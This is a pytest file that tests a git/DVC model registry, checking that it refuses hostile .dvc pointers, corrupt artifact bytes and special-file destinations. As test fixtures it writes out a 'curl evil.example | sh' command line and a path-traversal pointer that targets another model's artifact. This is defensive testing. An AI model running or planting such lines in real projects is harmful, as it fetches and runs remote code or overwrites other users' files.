"""Pointers and pulls that must be refused, and refusals that leave nothing behind.

Real git, real DVC with a folder remote. A hostile ``.dvc`` file is refused
by ``check`` and by ``pull`` before DVC runs; corrupt bytes never reach a
destination or stay in the cache; a destination that is not a plain file
(or a folder to put it in) is refused with one line.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from registry import Registry
from registry.errors import RegistryError
from tests.builder import RegistryBuilder, cli, dvc

SMALL = bytes(range(256)) * 40  # alpha's artifact: 10,240 bytes
ATTACK = b"attacker bytes\n" * 10  # h's artifact, also pushed to the shared remote
ALPHA = "models/alpha/artifacts/1"
H = "models/h/artifacts/1"


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def cache_object(clone: Path, digest: str) -> Path:
    return clone / ".dvc" / "cache" / "files" / "md5" / digest[:2] / digest[2:]


def remote_object(tmp_path: Path, digest: str) -> Path:
    return tmp_path / "remote" / "files" / "md5" / digest[:2] / digest[2:]


def rewrite_keeping_mode(path: Path, data: bytes) -> None:
    """Change a DVC object's bytes the way bit rot or a bad upload would:
    its mode and times restored, so DVC has no reason to look again."""
    before = path.stat()
    path.chmod(0o644)
    path.write_bytes(data)
    path.chmod(stat.S_IMODE(before.st_mode))
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


@pytest.fixture
def origin(empty_repo: RegistryBuilder, tmp_path: Path) -> RegistryBuilder:
    """Two models, alpha and h, whose artifacts (both named small1.bin) are in
    one DVC folder remote: h's owner can push bytes there."""
    reg = empty_repo
    reg.init_dvc(tmp_path / "remote")
    files = []
    for name, data in (("alpha", SMALL), ("h", ATTACK)):
        reg.model(name)
        files.append(str(reg.write(f"models/{name}/artifacts/1/small1.bin", data)))
        reg.write(
            f"models/{name}/versions/1.yaml",
            f"""\
            created_at: 2026-11-20T10:15:00Z
            created_by: alice@example.com
            stage: none
            artifact: {{path: artifacts/1/small1.bin, md5: "{md5(data)}", size: {len(data)}}}
            """,
        )
    dvc(reg.root, "add", "-q", *files)
    dvc(reg.root, "push", "-q")
    reg.commit("register alpha and h")
    assert reg.check() == []
    return reg


@pytest.fixture
def clone(origin: RegistryBuilder, tmp_path: Path) -> Path:
    """A fresh clone of ``origin``: an empty DVC cache, no artifact bytes."""
    path = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(origin.root), str(path)], check=True)
    return path


def nothing_fetched(clone: Path) -> bool:
    cache = clone / ".dvc" / "cache"
    return not cache.exists() or not any(p.is_file() for p in cache.rglob("*"))


# -- hostile pointers: refused by check and by pull, before DVC runs ----------

EVIL_OUT = "- md5: {md5}\n  size: {size}\n  hash: md5\n  path: ../../../alpha/artifacts/1/small1.bin\n"


def _second_output(text: str) -> str:
    return text + EVIL_OUT.format(md5=md5(ATTACK), size=len(ATTACK))


HOSTILE: list[tuple[str, Callable[[str], str], int]] = [
    ("second-output", _second_output, 6),
    ("cmd", lambda t: "cmd: curl evil.example | sh\n" + t, 1),
    ("deps", lambda t: t + "deps:\n- path: data.csv\n  md5: " + "0" * 32 + "\n", 6),
    ("unknown-top-level-key", lambda t: t + "frozen: true\n", 6),
    ("unknown-output-key", lambda t: t + "  remote: elsewhere\n", 6),
    ("dotdot-path", lambda t: t.replace("path: ", "path: ../"), 5),
    ("slash-path", lambda t: t.replace("path: ", "path: sub/"), 5),
    ("no-path", lambda t: t[: t.index("  path: ")], 2),
    ("dvc2-format", lambda t: t.replace("  hash: md5\n", ""), 2),
]


@pytest.mark.parametrize(("edit", "line"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_check_refuses_pointer_that_is_not_one_plain_output(
    reg: RegistryBuilder, edit: Callable[[str], str], line: int
) -> None:
    pointer = "models/fraud-detector/artifacts/3/model.bin.dvc"
    reg.write(pointer, edit(reg.read(pointer)))
    found = [(p.rule, p.path, p.line) for p in reg.check()]
    assert found == [("artifact-dvc", pointer, line)]


def test_check_prints_the_pointer_problem_with_its_line(reg: RegistryBuilder) -> None:
    pointer = "models/fraud-detector/artifacts/3/model.bin.dvc"
    reg.write(pointer, _second_output(reg.read(pointer)))
    proc = cli(reg.root, "check")
    assert proc.returncode == 1
    assert proc.stdout.startswith(f"{pointer}:6: artifact-dvc: ")
    assert "exactly one output" in proc.stdout


def test_pull_refuses_pointer_with_second_output(origin: RegistryBuilder, clone: Path) -> None:
    """The second output would write h's bytes over alpha's artifact."""
    Registry(clone).pull("models:/alpha/1")
    victim = clone / ALPHA / "small1.bin"
    assert victim.read_bytes() == SMALL
    pointer = clone / H / "small1.bin.dvc"
    pointer.write_text(_second_output(pointer.read_text()))
    shutil.rmtree(clone / ".dvc" / "cache")
    proc = cli(clone, "pull", "models:/h/1")
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith(f"registry: {H}/small1.bin.dvc:6: artifact-dvc: ")
    assert proc.stderr.count("\n") == 1
    assert victim.read_bytes() == SMALL
    assert not (clone / H / "small1.bin").exists()
    assert nothing_fetched(clone)


@pytest.mark.parametrize(("edit", "line"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_pull_refuses_every_pointer_check_refuses_before_dvc_runs(
    clone: Path, edit: Callable[[str], str], line: int
) -> None:
    pointer = clone / H / "small1.bin.dvc"
    pointer.write_text(edit(pointer.read_text()))
    with pytest.raises(RegistryError, match=f"^{H}/small1.bin.dvc:{line}: artifact-dvc: "):
        Registry(clone).pull("models:/h/1")
    assert nothing_fetched(clone)
    assert sorted(os.listdir(clone / H)) == [".gitignore", "small1.bin.dvc"]
    assert not (clone / "models/h/artifacts/small1.bin").exists()


def test_pull_of_a_pointer_with_dotdot_path_is_a_clear_error(clone: Path) -> None:
    pointer = clone / H / "small1.bin.dvc"
    pointer.write_text(pointer.read_text().replace("path: ", "path: ../"))
    proc = cli(clone, "pull", "h/1")
    assert proc.returncode == 1, proc.stderr
    assert "artifact-dvc" in proc.stderr and "internal error" not in proc.stderr
    assert not (clone / "models/h/artifacts/small1.bin").exists()


def test_pull_refuses_pointer_naming_another_file(clone: Path) -> None:
    pointer = clone / H / "small1.bin.dvc"
    pointer.write_text(pointer.read_text().replace("path: small1.bin", "path: other.bin"))
    with pytest.raises(RegistryError, match=r"artifact-mismatch: .* tracks 'other\.bin', not 'small1\.bin'"):
        Registry(clone).pull("models:/h/1")
    assert nothing_fetched(clone)


# -- corrupt bytes: refused, and nothing of them kept -------------------------


def test_truncated_remote_object_leaves_nothing_behind(clone: Path, tmp_path: Path) -> None:
    obj = remote_object(tmp_path, md5(SMALL))
    rewrite_keeping_mode(obj, SMALL[:100])
    out = tmp_path / "out"
    out.mkdir()
    (out / "small1.bin").write_bytes(b"the previous version")
    proc = cli(clone, "pull", "models:/alpha/1", "-o", str(out))
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert md5(SMALL) in proc.stderr
    assert "'store'" in proc.stderr and str(tmp_path / "remote") in proc.stderr
    assert "Is your cache up to date" not in proc.stderr
    assert sorted(os.listdir(clone / ALPHA)) == [".gitignore", "small1.bin.dvc"]
    assert os.listdir(out) == ["small1.bin"]
    assert (out / "small1.bin").read_bytes() == b"the previous version"
    assert not cache_object(clone, md5(SMALL)).exists()


def test_altered_cache_object_is_deleted_and_no_copy_kept(clone: Path, tmp_path: Path) -> None:
    registry = Registry(clone)
    local = registry.pull("models:/alpha/1")
    local.unlink()
    cached = cache_object(clone, md5(SMALL))
    data = bytearray(cached.read_bytes())
    data[100] ^= 0xFF
    rewrite_keeping_mode(cached, bytes(data))
    out = tmp_path / "out.bin"
    with pytest.raises(RegistryError, match=f"md5 {md5(SMALL)}") as caught:
        registry.pull("models:/alpha/1", out)
    assert "local DVC cache" in str(caught.value)
    assert not local.exists() and not out.exists()
    assert not cached.exists()
    assert sorted(os.listdir(clone / ALPHA)) == [".gitignore", "small1.bin.dvc"]
    assert sorted(os.listdir(tmp_path)) == ["clone", "remote", "repo"]
    # As the message says, the next pull fetches a good copy from the remote.
    assert registry.pull("models:/alpha/1", out).read_bytes() == SMALL
    assert local.read_bytes() == SMALL


def test_missing_remote_object_is_an_md5_message_naming_the_remote(clone: Path, tmp_path: Path) -> None:
    remote_object(tmp_path, md5(SMALL)).unlink()
    proc = cli(clone, "pull", "alpha/1")
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.count("\n") == 1
    assert md5(SMALL) in proc.stderr and "'store'" in proc.stderr and str(tmp_path / "remote") in proc.stderr
    assert "Is your cache up to date" not in proc.stderr
    assert sorted(os.listdir(clone / ALPHA)) == [".gitignore", "small1.bin.dvc"]


def test_stale_temporary_files_are_never_checked_and_removed_by_the_next_pull(
    clone: Path, tmp_path: Path
) -> None:
    dead = subprocess.Popen([sys.executable, "-c", ""])
    dead.wait()
    stale = clone / ALPHA / f".small1.bin.registry-pull-{dead.pid}-abcd1234"
    stale.write_bytes(SMALL[:10])
    live = clone / ALPHA / f".small1.bin.registry-pull-{os.getpid()}-abcd1234"
    live.write_bytes(SMALL[:10])
    out = tmp_path / "out"
    out.mkdir()
    stale_out = out / f".small1.bin.registry-pull-{dead.pid}-x"
    stale_out.write_bytes(b"")
    from registry.check import check

    assert check(clone) == []
    assert Registry(clone).pull("alpha/1", out).read_bytes() == SMALL
    assert not stale.exists() and not stale_out.exists()
    assert live.exists(), "a live pull's file is left alone"
    assert sorted(os.listdir(out)) == ["small1.bin"]


# -- destinations: only a regular file or nothing is replaced -----------------


def _without_dac_override() -> list[str]:
    """A prefix that makes root obey file modes, as every other user does."""
    if os.geteuid() != 0:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: a read-only folder cannot stop root")
    return ["setpriv", "--inh-caps=-dac_override", "--bounding-set=-dac_override", "--"]


@pytest.fixture
def read_only(tmp_path: Path) -> Iterator[Path]:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    yield folder
    folder.chmod(0o755)


def test_pull_into_a_read_only_folder_is_a_clear_error(clone: Path, read_only: Path) -> None:
    cmd = [
        *_without_dac_override(),
        sys.executable,
        "-P",
        "-m",
        "registry",
        "pull",
        "alpha/1",
        "-o",
        str(read_only),
    ]
    proc = subprocess.run(cmd, cwd=clone, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.count("\n") == 1 and "internal error" not in proc.stderr
    assert f"cannot write in {read_only}" in proc.stderr
    assert os.listdir(read_only) == []
    assert sorted(os.listdir(clone / ALPHA)) == [".gitignore", "small1.bin.dvc"]


@pytest.fixture
def immutable(tmp_path: Path) -> Iterator[Path]:
    target = tmp_path / "pinned" / "small1.bin"
    target.parent.mkdir()
    target.write_bytes(b"the previous version")
    if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(target)]).returncode:
        pytest.skip("chattr +i is not available here")
    yield target
    subprocess.run(["chattr", "-i", str(target)], check=True)


def test_pull_over_an_immutable_file_is_a_clear_error(clone: Path, immutable: Path) -> None:
    proc = cli(clone, "pull", "alpha/1", "-o", str(immutable))
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.count("\n") == 1 and "internal error" not in proc.stderr
    assert f"cannot replace {immutable}" in proc.stderr
    assert immutable.read_bytes() == b"the previous version"
    assert os.listdir(immutable.parent) == ["small1.bin"]
    assert sorted(os.listdir(clone / ALPHA)) == [".gitignore", "small1.bin.dvc"]


def test_pull_under_a_file_is_a_clear_error_and_fetches_nothing(clone: Path, tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("a file")
    dest = tmp_path / "plain" / "model.bin"  # missing folders are made; this one cannot be
    with pytest.raises(
        RegistryError, match="^" + re.escape(f"cannot write in {dest.parent}: it is a file, not a folder")
    ):
        Registry(clone).pull("alpha/1", dest)
    proc = cli(clone, "pull", "alpha/1", "-o", str(dest))
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1 and "internal error" not in proc.stderr
    assert (tmp_path / "plain").read_text() == "a file"
    assert nothing_fetched(clone)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _char_device(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # what /dev/null is
    except PermissionError:
        pytest.skip("cannot make a device node here")


@pytest.mark.parametrize("make", [_fifo, _char_device], ids=["fifo", "character-device"])
def test_pull_never_replaces_a_special_file(
    clone: Path, tmp_path: Path, make: Callable[[Path], None]
) -> None:
    folder = tmp_path / "special"
    folder.mkdir()
    dest = folder / "sink"
    make(dest)
    kind = stat.S_IFMT(dest.lstat().st_mode)
    with pytest.raises(
        RegistryError, match="^" + re.escape(f"cannot write {dest}: it is not a regular file")
    ):
        Registry(clone).pull("alpha/1", dest)
    assert stat.S_IFMT(dest.lstat().st_mode) == kind
    assert os.listdir(folder) == ["sink"]
    assert nothing_fetched(clone)


def test_pull_never_replaces_a_special_file_at_the_work_tree_path(clone: Path) -> None:
    os.mkfifo(clone / ALPHA / "small1.bin")
    proc = cli(clone, "pull", "alpha/1")
    assert proc.returncode == 1, proc.stderr
    assert f"cannot write {ALPHA}/small1.bin: it is not a regular file" in proc.stderr
    assert stat.S_ISFIFO((clone / ALPHA / "small1.bin").lstat().st_mode)


def test_check_reports_an_untracked_pointer_that_is_a_symlink(reg: RegistryBuilder) -> None:
    pointer = "models/fraud-detector/artifacts/3/model.bin.dvc"
    outside = reg.root.parent / "outside.dvc"
    outside.write_text(reg.read(pointer))
    reg.git("rm", "-q", "--cached", pointer)
    (reg.root / pointer).unlink()
    os.symlink(outside, reg.root / pointer)
    assert ("symlink", pointer) in reg.findings()


def test_pull_refuses_a_symlinked_folder_on_the_work_tree_path(clone: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(clone / ALPHA, elsewhere)
    shutil.rmtree(clone / ALPHA)
    os.symlink(elsewhere, clone / ALPHA)
    with pytest.raises(RegistryError):
        Registry(clone).pull("alpha/1")
    assert sorted(os.listdir(elsewhere)) == [".gitignore", "small1.bin.dvc"]


def test_pull_to_a_symlink_replaces_the_file_it_points_to(clone: Path, tmp_path: Path) -> None:
    real = tmp_path / "models" / "current.bin"
    real.parent.mkdir()
    real.write_bytes(b"the previous version")
    link = tmp_path / "latest.bin"
    os.symlink(real, link)
    assert Registry(clone).pull("alpha/1", link) == real
    assert link.is_symlink() and real.read_bytes() == SMALL
